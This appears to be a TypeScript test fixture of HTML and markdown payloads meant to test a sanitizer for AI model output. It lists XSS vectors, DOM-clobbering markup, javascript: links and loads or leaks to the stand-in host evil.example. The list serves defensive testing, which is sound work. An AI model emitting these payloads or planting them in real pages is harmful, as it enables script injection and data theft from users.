// SPDX-License-Identifier: EUPL-1.2
/** Hostile model output: scripts, handlers, dangerous addresses, remote loads, DOM clobbering, markup that changes when parsed twice. */
const HTML = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>', '<embed src="//evil.example/x.swf">', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel="prefetch" href="https://evil.example/?q=geheim">',
  '<style>body{background:url(https://evil.example/?q)}</style>', '<style>@import "//evil.example/x.css";</style>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action=https://evil.example><input name=x><button>ok</button></form>', '<input autofocus onfocus=alert(1)>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>',
  '<video poster=https://evil.example/p.png src=x></video>', '<audio src=x onerror=alert(1)>', '<img srcset="https://evil.example/a 1x">', '<picture><source srcset=https://evil.example/b></picture>',
  '<a href="javascript:alert(1)">klick</a>', '<a id=location><a id=location name=href href=//evil.example>', '<form id=document><input id=cookie></form>', '<img name=getElementById>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea></textarea><script>alert(1)</script>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p style="background:url(//evil.example)">x</p>', '<div style=position:fixed;inset:0>x</div>', '<marquee onstart=alert(1)>x</marquee>', '<x onclick=alert(1)>x',
  '<template><script>alert(1)</script></template>', '<portal src=https://evil.example>', '<button formaction=javascript:alert(1)>x</button>', '<isindex action=javascript:alert(1)>',
]
const MARKDOWN = [
  '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a](java\nscript:alert(1))', '[a](&#106;avascript:alert(1))', '[a](\u0001javascript:alert(1))', '[a]( javascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)', '[a](vbscript:msgbox(1))', '[a](file:///etc/passwd)', '[a](//evil.example)', '[a](\\\\evil.example)', '[a](https:evil.example)', '<javascript:alert(1)>', '<data:text/html,x>',
  '![x](https://evil.example/?q=geheim)', '![x][r]\n\n[r]: https://evil.example/y.png', '[![x](https://evil.example/a.png)](javascript:alert(1))', '[a][r]\n\n[r]: javascript:alert(1)', '![](data:image/svg+xml,<svg onload=alert(1)>)',
  '[a](https://ok.example/"onmouseover=alert(1))', '[a](https://ok.example "title\\" onclick=alert(1)")', '[a](mailto:x@y.example?body=<script>)', '`<script>alert(1)</script>`', '```html\n<script>alert(1)</script>\n```',
  '```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```', '$$\\href{javascript:alert(1)}{x}$$', '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |', '- [ ] <script>alert(1)</script>', '> <iframe src=//evil.example>',
  '# <svg onload=alert(1)>', '**<b onclick=alert(1)>x</b>**', '[1]: https://evil.example\n\n[1]', '[7] [99] [[1]]', 'https://evil.example/?q=geheim', '&lt;img src=x onerror=alert(1)&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
]
export const PAYLOADS: readonly string[] = [...HTML, ...MARKDOWN]
